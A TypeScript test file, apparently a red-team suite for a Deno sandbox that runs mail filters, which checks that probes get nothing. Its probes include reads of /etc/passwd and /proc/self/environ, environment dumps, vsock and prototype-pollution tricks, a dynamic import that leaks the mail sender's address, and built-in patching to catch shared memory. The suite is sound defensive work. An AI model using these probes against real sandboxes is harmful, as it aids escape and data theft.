/** Filters that reach for what they were not given. */
import { type Attack, inHook, trying } from "./attack.ts";

const attack = (name: string, tries: string, source: string): Attack => ({
  name,
  tries,
  source,
  ends: ["none"],
  dear: false,
});

/** They get nothing, and their mails go on. */
export const RIGHTS: readonly Attack[] = [
  attack(
    "files",
    "reads, writes, lists and removes files",
    trying({
      read: `Deno.readTextFile("/etc/passwd")`,
      readBytes: `Deno.readFile("/proc/self/environ")`,
      open: `Deno.open("/etc/hostname")`,
      list: `(async () => { for await (const entry of Deno.readDir("/")) return entry.name; })()`,
      stat: `Deno.stat("/etc/passwd")`,
      real: `Deno.realPath("/etc")`,
      write: `Deno.writeTextFile("/tmp/millrace-redteam", "x").then(() => true)`,
      make: `Deno.mkdir("/tmp/millrace-redteam-dir").then(() => true)`,
      remove: `Deno.remove("/tmp/millrace-redteam").then(() => true)`,
      rename: `Deno.rename("/tmp/a", "/tmp/b").then(() => true)`,
      fetchFile: `fetch("file:///etc/passwd").then((r) => r.text())`,
      sync: `Deno.readTextFileSync?.("/etc/passwd")`,
    }),
  ),
  attack(
    "environment",
    "reads and sets the environment, asks who and where it is",
    trying({
      get: `Deno.env.get("PATH")`,
      all: `Object.keys(Deno.env.toObject()).length`,
      set: `(Deno.env.set("X_RED", "1"), true)`,
      process: `process.env.PATH`,
      host: `Deno.hostname()`,
      release: `Deno.osRelease()`,
      uid: `Deno.uid?.()`,
      main: `Deno.mainModule`,
      request: `Deno.permissions.request({ name: "read" }).then(({ state }) => state === "granted")`,
      requestNet: `Deno.permissions.request({ name: "net" }).then(({ state }) => state === "granted")`,
      query: `Deno.permissions.query({ name: "env" }).then(({ state }) => state === "granted")`,
    }),
  ),
  attack(
    "network",
    "connects out, by every door",
    trying({
      connect: `Deno.connect({ hostname: "127.0.0.1", port: 25 })`,
      tls: `Deno.connectTls({ hostname: "127.0.0.1", port: 443 })`,
      unix: `Deno.connect({ transport: "unix", path: "/run/x.sock" })`,
      // Without --unstable-vsock Deno ends the process here.
      vsock: `Deno.connect({ transport: "vsock", cid: 2, port: 25 })`,
      vsockTwice:
        `Deno.connect({ n: 0, get transport() { return this.n++ ? "vsock" : "tcp"; }, cid: 2, port: 25 })`,
      vsockLent:
        `(Object.prototype.transport = "vsock", Deno.connect({ cid: 2, port: 25, hostname: "127.0.0.1" }))`,
      vsockTold: `Deno.connect({ transport: { toString: () => "vsock" }, cid: 2, port: 25 })`,
      datagram: `Deno.listenDatagram?.({ transport: "udp", port: 0 })`,
      quic: `Deno.connectQuic?.({ hostname: "127.0.0.1", port: 443, alpnProtocols: ["h3"] })`,
      transport: `globalThis.WebTransport`,
      listen: `Deno.listen?.({ port: 0 })`,
      dns: `Deno.resolveDns("example.org", "A")`,
      fetch: `fetch("http://127.0.0.1:1/").then(() => true)`,
      socket:
        `new Promise((resolve) => { const s = new WebSocket("ws://127.0.0.1:1/"); s.onopen = () => resolve(true); s.onerror = () => resolve(undefined); })`,
      events: `new EventSource("http://127.0.0.1:1/")`,
      client:
        `fetch("http://127.0.0.1:1/", { client: Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:1" } }) })`,
    }),
  ),
  attack(
    "imports",
    "imports what is computed at run time",
    inHook(`
    const parts = ["https:", "//deno.land/std/version.ts"];
    const names = [parts.join(""), "https://jsr.io/@std/assert/1.0.0/mod.ts", "https://esm.sh/x", "http://127.0.0.1:1/?" + mail.sender.address,
      "https://raw.githubusercontent.com/x/y/z.js", "data:text/javascript,export default 1", "blob:null/1", "node:" + "fs", "fs", "node:process",
      "node:worker_threads", "file:///etc/passwd", "ext:core/mod.js", "npm:left-pad", "jsr:@std/assert", "./other.js", import.meta.url + "?2"];
    for (const name of names) await import(name).then(() => addHeader("X-Got", name), () => {});
    try { addHeader("X-Got", import.meta.resolve("node:fs") && (await import(import.meta.resolve("node:fs"))) ? "resolve" : ""); } catch {}
    const dynamic = Function("name", "return import(name)");
    await dynamic("node:fs").then(() => addHeader("X-Got", "Function import"), () => {});
    await (0, eval)("import('node:fs')").then(() => addHeader("X-Got", "eval import"), () => {});
    addHeader("X-Tried", "imports");`),
  ),
  attack(
    "threads",
    "starts threads of its own",
    trying({
      worker: `new Worker("data:text/javascript,for(;;);", { type: "module" })`,
      shared: `new SharedWorker("data:text/javascript,")`,
      self: `new self.Worker("data:text/javascript,")`,
      global: `new (Function("return this")().Worker)("data:text/javascript,")`,
      proto:
        `new (Object.getOwnPropertyDescriptor(Object.getPrototypeOf(globalThis), "Worker").value)("data:,")`,
      require: `require("node:worker_threads")`,
      builtin: `process.getBuiltinModule("node:worker_threads")`,
      escaped: `(function () {}).constructor("return process")().getBuiltinModule("worker_threads")`,
      asyncEscaped:
        `(async function () {}).constructor("return typeof process !== 'undefined' && process")()`,
      blob: `URL.createObjectURL(new Blob(["for(;;);"]))`,
      realm: `new ShadowRealm().evaluate("1")`,
      module: `module.createRequire("/")("worker_threads")`,
      audio: `typeof AudioWorklet !== "undefined"`,
    }),
  ),
  attack(
    "internals",
    "reaches for Deno's inside",
    trying({
      internal: `Deno[Deno.internal]`,
      symbol: `Deno[Symbol.for("Deno.internal")]`,
      symbols: `Object.getOwnPropertySymbols(Deno).length > 0 && "symbols"`,
      core: `Deno.core ?? globalThis.__bootstrap ?? globalThis.Deno?.[Symbol("Deno.internal")]`,
      locks: `navigator.locks ?? Object.getPrototypeOf(navigator).locks`,
      lockClass: `globalThis.LockManager`,
      port: `globalThis.postMessage ?? globalThis.parentPort ?? globalThis.workerData`,
      ownKeys:
        `Reflect.ownKeys(globalThis).filter((key) => /process|worker_?thread|require|bootstrap|internal|Worker$/.test(String(key))).join() || undefined`,
      stack: `(() => { const was = Error.prepareStackTrace; try {
      Error.prepareStackTrace = (_, sites) => sites.map((site) => [site.getThis(), site.getFunction()]).flat();
      return new Error().stack.some((value) => value !== undefined && value !== null) || undefined;
    } finally { Error.prepareStackTrace = was; } })()`,
      caller: `(() => { function f() { return f.caller; } return f() ?? undefined; })()`,
      exit: `Deno.exit?.(1) ?? globalThis.close?.()`,
      kill: `Deno.kill ?? Deno.Command ?? Deno.run ?? Deno.dlopen ?? Deno.addSignalListener`,
      memory: `Deno.memoryUsage ?? Deno.pid ?? Deno.execPath ?? Deno.args`,
      flags:
        `globalThis.gc ?? globalThis.queueMicrotask.constructor("return typeof v8 === 'object'")() === true`,
    }),
  ),
  attack(
    "steals words",
    "patches built-ins to get hold of the runtime's memory",
    inHook(
      `const before = caught.size; await new Promise((resolve) => setTimeout(resolve, 5));
     if (caught.size > 0) addHeader("X-Got", [...caught].join(" ")); addHeader("X-Tried", String(before));`,
      `const caught = new Set();
     const isShared = (value) => value instanceof SharedArrayBuffer || ArrayBuffer.isView(value) && value.buffer instanceof SharedArrayBuffer;
     const apply = Reflect.apply;
     let inside = false;
     const look = (name, self, args) => {
       if (inside) return; inside = true;
       try {
         for (const value of [self, ...args]) {
           if (isShared(value)) caught.add("shared memory by " + name);
           if (value !== null && typeof value === "object" && typeof value.postMessage === "function" && !(value instanceof MessagePort)) caught.add("port by " + name);
         }
       } finally { inside = false; }
     };
     for (const [owner, label] of [[Uint8Array.prototype, "Uint8Array"], [Object.getPrototypeOf(Uint8Array.prototype), "TypedArray"], [DataView.prototype, "DataView"],
       [Atomics, "Atomics"], [Array.prototype, "Array"], [Map.prototype, "Map"], [Set.prototype, "Set"], [Promise.prototype, "Promise"], [Function.prototype, "Function"],
       [TextEncoder.prototype, "TextEncoder"], [TextDecoder.prototype, "TextDecoder"], [MessagePort.prototype, "MessagePort"], [EventTarget.prototype, "EventTarget"], [Math, "Math"], [Reflect, "Reflect"]]) {
       for (const key of Reflect.ownKeys(owner)) {
         const property = Object.getOwnPropertyDescriptor(owner, key);
         if (!property.configurable || key === "constructor") continue;
         for (const part of ["value", "get"]) {
           const original = property[part];
           if (typeof original !== "function") continue;
           property[part] = function (...args) { look(label + "." + String(key), this, args); return apply(original, this, args); };
         }
         try { Object.defineProperty(owner, key, property); } catch {}
       }
     }
     const Original = Uint8Array;
     Object.defineProperty(Object.getPrototypeOf(Uint8Array), Symbol.species, { configurable: true, get() { return function (...args) { look("species", undefined, args); return new Original(...args); }; } });`,
    ),
  ),
];
